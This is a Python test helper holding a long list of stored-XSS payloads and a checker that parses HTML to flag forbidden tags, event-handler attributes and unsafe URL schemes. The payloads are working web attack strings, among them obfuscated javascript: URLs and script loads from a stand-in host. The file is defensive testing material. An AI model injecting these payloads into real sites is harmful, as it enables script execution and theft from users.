"""Stored-XSS payloads and a checker for HTML that is about to reach a page.

`PAYLOADS` is what a hostile author might type into any text field. `assert_no_xss(html)` parses
the HTML the way a browser would tokenize it (html.parser, not regexes over raw text) and fails on
any markup that could run script, load active content or exfiltrate. Text is never a problem:
"alert(1)" as escaped text is harmless; only tags and attributes count.
"""

import re
from html.parser import HTMLParser

PAYLOADS: list[str] = [
    # <script>, every way round
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "text before <script type=module>alert(1)</script> after",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    '<a onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p onpointerenter=alert(1)>p</p>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<video><source onerror=alert(1)></video>",
    # javascript: URLs — Markdown and HTML, plain and obfuscated
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](javascript&colon;alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    # data: and vbscript:
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](vbscript:msgbox(1))",
    '<a href="vbscript:msgbox(1)">x</a>',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # Frames, plugins and document-level tags
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="Evil.class"></applet>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<template><script>alert(1)</script></template>",
    # CSS
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    # Broken, unclosed and nested tags
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1)",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href='x' onmouseover='alert(1)' <b>x",
    "<div><p>unclosed <script>alert(1)",
    # Comments, CDATA, entities
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Markdown-specific routes
    "<javascript:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    '[a][1]\n\n[1]: javascript:alert(1) "title"',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x](https://tracker.example/pixel.gif)",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "text {: onclick=alert(1) }",
    "# Heading {: onclick=alert(1) style=color:red }",
    "*emphasis*{: onmouseover=alert(1) }",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    # Template injection lookalikes (must come out as inert text)
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}{% load static %}",
    # Attribute breakouts (for values rendered inside attributes)
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "`><img src=x onerror=alert(1)>",
]

# Tags that must never appear as markup, whatever their attributes.
FORBIDDEN_TAGS = frozenset(
    {
        *("script", "iframe", "frame", "frameset", "object", "embed", "applet"),
        *("base", "meta", "link", "style", "form", "input", "button", "svg", "math"),
        *("img", "textarea", "select", "template"),
    }
)
# Attributes that are dangerous whatever their value (on* handlers are caught separately).
FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcdoc", "formaction", "xlink:href", "srcset"})
# Attributes holding a URL a browser may navigate to or load.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "background", "cite", "data", "poster", "codebase", "ping"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})

# What a browser's URL parser does before it looks for a scheme: strip C0 controls and spaces at
# the ends and drop tab/CR/LF anywhere. Other control characters are dropped anywhere too — stricter
# than today's browsers, as some old ones ignored them.
_URL_EDGES = "".join(map(chr, range(0x21)))
_IGNORED_IN_URL = re.compile(r"[\x00-\x1f\x7f]")
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) URL, or None if relative.

    "java   script:x" has no scheme: spaces cannot be part of one, so a browser resolves it as a
    relative path (python-markdown produces exactly this from "java<TAB>script:").
    """
    url = _IGNORED_IN_URL.sub("", value.strip(_URL_EDGES)).lower()
    before_path = re.split(r"[/?#]", url, maxsplit=1)[0]
    if ":" not in before_path:
        return None
    scheme = before_path.split(":", 1)[0]
    return scheme if _SCHEME.fullmatch(scheme) else None


class _XSSFinder(HTMLParser):
    def __init__(self):
        # html.parser decodes entities in attribute values itself (as a browser does), so
        # `&#106;avascript:` arrives here as `javascript:`.
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        fragment = self.get_starttag_text() or f"<{tag}>"
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"forbidden tag <{tag}>: {fragment}")
        for name, value in attrs:
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"forbidden attribute {name!r}: {fragment}")
            elif name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name} with scheme {scheme!r}: {fragment}")

    def handle_comment(self, data):
        # Old IE ran the markup inside conditional comments.
        if data.lstrip().lower().startswith("[if"):
            self.problems.append(f"conditional comment: <!--{data}-->")


def xss_problems(html: str) -> list[str]:
    """Every executable thing in `html`, each quoting its fragment."""
    finder = _XSSFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


def assert_no_xss(html: str) -> None:
    """Fail, quoting the offending fragment, if `html` contains anything executable."""
    problems = xss_problems(html)
    assert not problems, "executable markup in HTML:\n  " + "\n  ".join(problems)
